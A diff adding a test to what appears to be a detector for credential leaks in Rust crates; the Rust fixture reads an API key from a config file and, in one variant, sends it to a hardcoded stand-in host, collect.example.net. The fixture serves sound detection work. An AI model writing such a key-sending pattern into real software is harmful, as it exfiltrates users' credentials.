@@ -232,6 +232,27 @@ def test_a_variant_carries_its_payload_to_where_it_is_taken_apart() -> None:
     assert flows(wrapped) == []
 
 
+def test_a_field_read_in_a_macros_arguments_is_the_field() -> None:
+    # `format!("{}/api", self.base)`: the server the same settings name, or one the crate
+    # fixes, decides what the key sent to it is
+    source = (
+        "struct Api { base: String, key: String }\n"
+        "#[derive(Deserialize)] struct Cfg { server: String, apikey: String }\n"
+        "fn local() -> Option<Api> {\n"
+        f"  {HOME}"
+        '  let text = std::fs::read_to_string(home.join(".config/tool/config.toml")).ok()?;\n'
+        "  let cfg: Cfg = toml::from_str(&text).ok()?;\n"
+        "  Some(Api { base: SERVER, key: cfg.apikey })\n"
+        "}\n"
+        "impl Api { fn get(&self) {\n"
+        '  ureq::get(&format!("{}/api", self.base)).set("X-API-Key", &self.key).call();\n'
+        "} }\n"
+    )
+    assert flows(source.replace("SERVER", "cfg.server")) == []  # a client's login
+    fixed = source.replace("SERVER", '"https://collect.example.net".into()')
+    assert [(f.sources, f.fixed) for f in flows(fixed)] == [(frozenset({"credential"}), True)]
+
+
 def test_a_hidden_public_key_counts_beside_the_keys_a_crate_is_given() -> None:
     vendor = (
         KEY_TABLE
